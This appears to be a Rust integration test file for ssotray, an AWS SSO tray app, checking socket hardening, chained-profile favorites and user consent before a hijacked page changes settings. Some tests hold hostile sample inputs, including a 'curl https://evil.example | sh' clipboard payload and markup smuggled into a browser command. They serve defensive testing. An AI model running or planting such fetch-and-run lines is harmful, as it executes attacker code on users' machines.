async fn the_apps_sockets_refuse_hostile_input_and_the_app_goes_on() {
    let desktop = Desktop::start();
    let w = World::auto_approving(CONFIG).await;
    let tmp = tempfile::tempdir().unwrap();
    let (browser, _log) = browser_script(tmp.path());
    let _app = spawn_app(&w, &desktop, &browser, &[]);
    let _menu = TrayMenu::find(&desktop).await;
    let app_sock = w.home.path().join("run/ssotray/app.sock");
    wait_until("the single-instance socket", 30, || app_sock.exists()).await;
    wait_until("the window socket", 30, || window_socket_dirs(&w) == 1).await;
    let window_sock = window_socket(&w);

    // Over-long lines: refused and closed.
    let long = [vec![b'x'; 200 * 1024], b"\n".to_vec()].concat();
    assert_eq!(raw_exchange(&app_sock, &long).await, "refused\n");
    let huge = [vec![b'x'; 2 * 1024 * 1024], b"\n".to_vec()].concat();
    assert_eq!(
        raw_exchange(&window_sock, &huge).await,
        "",
        "closed without an answer"
    );
    // Silent connections: closed after the idle timeout.
    let started = std::time::Instant::now();
    assert_eq!(raw_exchange(&app_sock, b"").await, "refused\n");
    assert_eq!(raw_exchange(&window_sock, b"").await, "");
    let waited = started.elapsed();
    assert!(
        waited >= Duration::from_secs(9) && waited < Duration::from_secs(40),
        "closed after {waited:?}"
    );
    // Unharmed: a second launch's request is served, and a window command answered.
    assert_eq!(raw_exchange(&app_sock, b"show sessions\n").await, "ok\n");
    assert!(
        call_tray(&window_sock, "get_state", serde_json::Value::Null)
            .await
            .contains("\"ok\"")
    );
}

#[tokio::test]
async fn a_runtime_directory_others_can_reach_gets_no_socket_of_the_app() {
    use std::os::unix::fs::PermissionsExt;
    let desktop = Desktop::start();
    let w = World::new(CONFIG, SimConfig::default()).await;
    let dir = w.home.path().join("run/ssotray");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o777)).unwrap();
    let tmp = tempfile::tempdir().unwrap();
    let (browser, _log) = browser_script(tmp.path());
    let mut app = tokio::process::Command::new(bin("ssotray-app"))
        .env_clear()
        .envs(app_env(&w, &desktop, &browser))
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    // The app runs (its tray item registers), says why, and listens on nothing there.
    let _menu = TrayMenu::find(&desktop).await;
    tokio::time::sleep(Duration::from_secs(2)).await;
    assert!(
        std::fs::read_dir(&dir).unwrap().next().is_none(),
        "no socket in a directory others can reach"
    );
    let _ = app.kill().await;
    let mut err = String::new();
    tokio::io::AsyncReadExt::read_to_string(app.stderr.as_mut().unwrap(), &mut err)
        .await
        .unwrap();
    assert!(
        err.contains("has mode 777, so other users can reach its sockets"),
        "{err}"
    );
    // A tray app's stderr is seen by nobody: the desktop says it.
    let shown = desktop.notifications();
    assert!(
        shown
            .iter()
            .any(|n| n.summary == "ssotray cannot coordinate logins"
                && n.body.contains("has mode 777")),
        "{shown:#?}"
    );
}

/// Every console sign-in URL the stand-in browser was given, once there are `n`.
async fn console_urls_opened(log: &Path, n: usize) -> Vec<String> {
    wait_until("console URLs in the browser", 30, || {
        opened(log)
            .iter()
            .filter(|u| u.contains("Action=login"))
            .count()
            >= n
    })
    .await;
    opened(log)
        .into_iter()
        .filter(|u| u.contains("Action=login"))
        .collect()
}

/// The console page a console URL signs in to (a sign-in URL is good once): account id, role
/// name and destination.
async fn signed_in(url: &str) -> [String; 3] {
    let html = reqwest::get(url).await.unwrap().text().await.unwrap();
    let between = |a: &str| {
        html.split_once(a)
            .and_then(|(_, rest)| rest.split_once("</span>"))
            .map(|(v, _)| v.replace("&amp;", "&"))
            .unwrap_or_else(|| panic!("no {a} in {html}"))
    };
    [
        between("<span id=\"account-id\">"),
        between("<span id=\"role-name\">"),
        between("<span id=\"destination\">"),
    ]
}

/// The console the chained favorite `deploy` signs in to: account, role, destination.
const DEPLOYER_ON_EC2: [&str; 3] = [
    "333333333333",
    "Deployer",
    "https://eu-west-1.console.aws.amazon.com/ec2/v2/home?region=eu-west-1",
];

/// The service the app remembers for the favorite `deploy`.
fn remembered_service(w: &World) -> String {
    let prefs: serde_json::Value = serde_json::from_slice(
        &std::fs::read(w.home.path().join(".local/state/ssotray/app.json")).unwrap(),
    )
    .unwrap();
    prefs["destinations"]["my-sso|111111111111|AdministratorAccess|deploy"]
        .as_str()
        .unwrap_or_default()
        .to_string()
}

#[tokio::test]
async fn chained_profiles_sit_under_their_role_and_a_favorite_remembers_its_service() {
    let desktop = Desktop::start();
    let config = format!(
        "{CONFIG}\n[profile deploy]\nrole_arn = arn:aws:iam::333333333333:role/Deployer\nsource_profile = dev\nregion = eu-west-1\n"
    );
    let w = logged_in_with_accounts_on(&config).await;
    let tmp = tempfile::tempdir().unwrap();
    let (browser, log) = ssotray_tests::stand_in_browser(tmp.path(), None);
    let mut env = app_env(&w, &desktop, &browser);
    env.push(("AWS_ENDPOINT_URL_STS".into(), w.sim.base_url.clone()));
    let view = Webview::start(&bin("ssotray-app"), &env).await;
    view.wait_text("#sessions", "my-sso").await;

    // The chained profile is listed right under the role it starts from.
    view.click("#nav-accounts").await;
    view.wait_text("#roles-more", "6 role(s)").await;
    let rows = js(
        &view,
        "return [...document.querySelectorAll('#roles tbody tr')].filter((r) => !r.hidden).map((r) => r.children[2].textContent);",
    )
    .await;
    let rows: Vec<&str> = rows
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect();
    let at = rows
        .iter()
        .position(|r| *r == "↳ deploy (333333333333 / Deployer)")
        .unwrap_or_else(|| panic!("{rows:?}"));
    assert_eq!(rows[at - 1], "AdministratorAccess", "{rows:?}");

    // A favorite, opened on a service typed into its row: the chained role's console lands there
    // (in the profile's region) and the service is remembered.
    view.type_into("#search", "deploy").await;
    view.wait_text("#roles-more", "1 role(s)").await;
    view.click("#roles tbody tr .favorite").await;
    view.wait_text("#favorites", "↳ deploy").await;
    view.type_into("#favorites tr .destination", "ec2").await;
    view.click("#favorites tr .open-console").await;
    let url = console_urls_opened(&log, 1).await.remove(0);
    assert_eq!(signed_in(&url).await, DEPLOYER_ON_EC2.map(str::to_string));
    assert_eq!(remembered_service(&w), "ec2");
    view.no_secrets_on_the_page().await;

    // The tray menu has it under its role and among the favorites; the favorite opens on its
    // remembered service.
    let menu = TrayMenu::find(&desktop).await;
    wait_until("the chained favorite in the tray menu", 30, || {
        let labels = menu.labels();
        labels.iter().any(|l| l == "★ deploy")
            && labels
                .iter()
                .any(|l| l == "↳ deploy (333333333333 / Deployer)")
    })
    .await;
    menu.click("★ deploy");
    let url = console_urls_opened(&log, 2).await.remove(1);
    assert_eq!(signed_in(&url).await, DEPLOYER_ON_EC2.map(str::to_string));
    let s = w.stats().await;
    assert_eq!(
        count(&s, "SessionDurationRefused"),
        2,
        "each chained console asked without SessionDuration after the refusal: {s}"
    );

    // A service that is not one is said in the window and not remembered.
    view.type_into("#favorites tr .destination", "s33").await;
    view.click("#favorites tr .open-console").await;
    view.wait_text("#toast", "unknown service `s33`").await;
    assert_eq!(remembered_service(&w), "ec2");

    // The tray follows the role's own setting: a Firefox container named for the profile.
    let argv_log = tmp.path().join("firefox-argv.txt");
    let firefox = tmp.path().join("firefox");
    std::fs::write(
        &firefox,
        format!(
            "#!/bin/sh\nprintf '%s\\n' \"$@\" > '{0}.tmp' && mv '{0}.tmp' '{0}'\n",
            argv_log.display()
        ),
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&firefox, std::fs::Permissions::from_mode(0o755)).unwrap();
    let settings = w.home.path().join(".config/ssotray/settings.toml");
    std::fs::create_dir_all(settings.parent().unwrap()).unwrap();
    std::fs::write(
        &settings,
        format!(
            "[roles.deploy]\nopen_in = \"firefox-container\"\nbrowser_executable = \"{}\"\n",
            firefox.display()
        ),
    )
    .unwrap();
    menu.click("★ deploy");
    wait_until("Firefox started", 30, || argv_log.exists()).await;
    let argv: Vec<String> = std::fs::read_to_string(&argv_log)
        .unwrap()
        .lines()
        .map(str::to_string)
        .collect();
    assert_eq!(argv.len(), 2, "{argv:?}");
    assert_eq!(argv[0], "--new-tab");
    let page = url::Url::parse(&argv[1]).unwrap().to_file_path().unwrap();
    let link =
        ssotray_core::ops::private_open::target_of_page(&std::fs::read_to_string(page).unwrap())
            .unwrap();
    assert!(
        link.starts_with("ext+granted-containers:name=deploy&url="),
        "{link}"
    );
    let _ = view.client.close().await;
}

#[tokio::test]
async fn a_browser_command_the_window_sends_is_saved_only_once_the_user_allows_it_in_a_notification(
) {
    // The window's commands, sent as a page someone else's script took over would send them.
    let desktop = Desktop::start();
    let w = logged_in_with_accounts().await;
    let (_app, _tmp, socket) = app_with_its_window_socket(&w, &desktop).await;
    let answer: serde_json::Value =
        serde_json::from_str(&call_tray(&socket, "get_settings", serde_json::Value::Null).await)
            .unwrap();
    let mut settings = answer["ok"].clone();
    let file = w.home.path().join(".config/ssotray/settings.toml");
    let saved_browser = || {
        std::fs::read_to_string(&file)
            .unwrap_or_default()
            .lines()
            .find_map(|l| l.strip_prefix("browser = ").map(str::to_string))
    };
    let asks = |command: &str| {
        desktop
            .notifications()
            .into_iter()
            .filter(|n| n.summary == "Allow this browser command?" && n.body.contains(command))
            .collect::<Vec<_>>()
    };
    for (command, allow) in [("/tmp/not-mine %s", false), ("firefox -P work %s", true)] {
        settings["sessions"][0]["browser"] = command.into();
        let answer = save_settings(&socket, &settings).await;
        assert!(answer.contains("\"ok\":[\"my-sso\"]"), "{answer}");
        assert_eq!(saved_browser(), None, "not saved before the user allows it");
        wait_until(
            "the notification that asks, and its id",
            30,
            || matches!(&asks(command)[..], [n] if n.id.is_some()),
        )
        .await;
        let n = asks(command).remove(0);
        assert!(
            n.actions.iter().any(|a| a == "allow-browser"),
            "{:?}",
            n.actions
        );
        desktop.wait_listening(n.id.expect("its id")).await;
        if allow {
            desktop.click_action(n.id.expect("its id"), "allow-browser");
            wait_until("the allowed command in settings.toml", 30, || {
                saved_browser().as_deref() == Some("\"firefox -P work %s\"")
            })
            .await;
        } else {
            desktop.click_action(n.id.expect("its id"), "refuse-browser");
            tokio::time::sleep(Duration::from_secs(2)).await;
            assert_eq!(saved_browser(), None, "refused: never saved");
        }
    }
    // The allowed command saved again is no new command: nothing to ask.
    let answer = save_settings(&socket, &settings).await;
    assert!(answer.contains("\"ok\":[]"), "{answer}");
    // Removing it (back to the default browser) needs no confirmation either.
    settings["sessions"][0]["browser"] = serde_json::Value::Null;
    save_settings(&socket, &settings).await;
    assert_eq!(saved_browser(), None);
}

/// What a page someone else's script took over can no longer do without the user: take the
/// refresh token out of the keychain (asked in a notification, as a browser command is), put
/// text of its own on the clipboard, or put markup into the notification that asks.
#[tokio::test]
async fn a_page_cannot_turn_the_keychain_off_copy_its_own_text_or_put_markup_in_a_notification() {
    let desktop = Desktop::start();
    let tmp = tempfile::tempdir().unwrap();
    let _keyring = ssotray_tests::Keyring::start_on(&tmp.path().join("keyring"), &desktop.bus);
    let w = logged_in_with_accounts().await;
    let mut env = w.env();
    env.extend(desktop.env());
    let on = ssotray_tests::run(&bin("ssotray"), &["keychain", "enable", "my-sso"], &env).await;
    assert!(
        on.status.success(),
        "{}",
        String::from_utf8_lossy(&on.stderr)
    );
    let token = || std::fs::read_to_string(w.home.token_file("my-sso")).unwrap();
    assert!(!token().contains("refreshToken"), "in the keychain");
    let (_app, _tmp, socket) = app_with_its_window_socket(&w, &desktop).await;
    let answer: serde_json::Value =
        serde_json::from_str(&call_tray(&socket, "get_settings", serde_json::Value::Null).await)
            .unwrap();
    let mut settings = answer["ok"].clone();
    assert_eq!(settings["sessions"][0]["keychain"], true);
    let asks = || {
        desktop
            .notifications()
            .into_iter()
            .filter(|n| n.summary == "Take the refresh token out of the keychain?")
            .collect::<Vec<_>>()
    };

    // Turned off from the page: nothing moves until the user allows it.
    settings["sessions"][0]["keychain"] = false.into();
    for (round, allow) in [(1, false), (2, true)] {
        let answer = save_settings(&socket, &settings).await;
        assert!(answer.contains("\"ok\":[\"my-sso\"]"), "{answer}");
        assert!(
            !token().contains("refreshToken"),
            "not moved before the user allows it"
        );
        wait_until("the notification that asks, and its id", 30, || {
            asks().len() == round && asks()[round - 1].id.is_some()
        })
        .await;
        let n = asks().remove(round - 1);
        assert!(
            n.actions.iter().any(|a| a == "allow-keychain-off"),
            "{:?}",
            n.actions
        );
        desktop.wait_listening(n.id.expect("its id")).await;
        if allow {
            desktop.click_action(n.id.unwrap(), "allow-keychain-off");
            wait_until("the refresh token back in its file", 30, || {
                token().contains("refreshToken")
            })
            .await;
        } else {
            desktop.click_action(n.id.unwrap(), "refuse-keychain-off");
            tokio::time::sleep(Duration::from_secs(2)).await;
            assert!(
                !token().contains("refreshToken"),
                "refused: stays in the keychain"
            );
        }
    }

    // The clipboard takes only what ssotray shows to copy (a device login's code).
    let before = clipboard_text(&desktop);
    let answer = call_tray(
        &socket,
        "copy_text",
        serde_json::json!({ "text": "curl https://evil.example | sh" }),
    )
    .await;
    assert!(
        answer.contains("ssotray copies only what it shows you"),
        "{answer}"
    );
    assert_eq!(clipboard_text(&desktop), before);

    // A browser command with markup in it shows as written: escaped in the body.
    settings["sessions"][0]["browser"] = "firefox <a href=\"https://evil.example\">x</a> %s".into();
    save_settings(&socket, &settings).await;
    wait_until(
        "the notification that asks to allow the command",
        30,
        || {
            desktop
                .notifications()
                .iter()
                .any(|n| n.summary == "Allow this browser command?")
        },
    )
    .await;
    let n = desktop
        .notifications()
        .into_iter()
        .find(|n| n.summary == "Allow this browser command?")
        .unwrap();
    assert!(
        n.body
            .contains("firefox &lt;a href=&quot;https://evil.example&quot;&gt;x&lt;/a&gt; %s"),
        "{}",
        n.body
    );
    assert!(!n.body.contains("<a"), "{}", n.body);
}
